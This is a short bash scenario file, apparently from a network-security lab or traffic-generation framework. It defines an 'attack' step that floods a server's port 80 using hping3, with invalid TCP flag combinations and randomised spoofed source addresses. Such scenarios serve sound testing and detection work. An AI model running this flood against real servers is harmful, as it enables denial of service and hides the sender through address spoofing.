# shellcheck shell=bash
# about: TCP with sets of flags that make no sense (hping3)
# type: attack
# kind: badflags_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -S -R -P -U -p 80 --rand-source
}
